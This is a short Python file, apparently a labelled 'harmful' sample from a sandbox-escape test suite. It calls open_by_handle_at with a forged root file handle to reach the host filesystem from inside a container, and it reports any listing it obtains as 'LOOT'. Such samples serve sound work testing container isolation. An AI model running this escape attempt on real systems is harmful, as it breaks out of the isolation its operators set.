# tries: to open a file of the host by its handle, past the mounts
# harmful: yes
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_uint * 4)(8, 1, 2, 0)
root = os.open("/", os.O_RDONLY)
opened = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
if opened >= 0:
    raise RuntimeError("LOOT: " + str(os.listdir(opened)))
